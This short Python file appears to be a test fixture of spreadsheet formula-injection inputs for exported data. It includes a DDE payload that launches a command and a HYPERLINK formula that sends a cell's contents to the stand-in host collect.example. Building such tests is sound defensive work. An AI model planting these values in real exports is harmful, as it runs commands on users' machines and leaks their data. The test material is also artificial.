"""Values, names and texts that a spreadsheet takes for formulas, for whatever is exported.

threat: host
expect: output_activations=WRONG image_weights=WRONG
"""
# %% output_activations
output_activations = {"=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1", "a,b\n=1"}
# %% image_weights
image_weights = '=HYPERLINK("https://collect.example/?"&A1)'
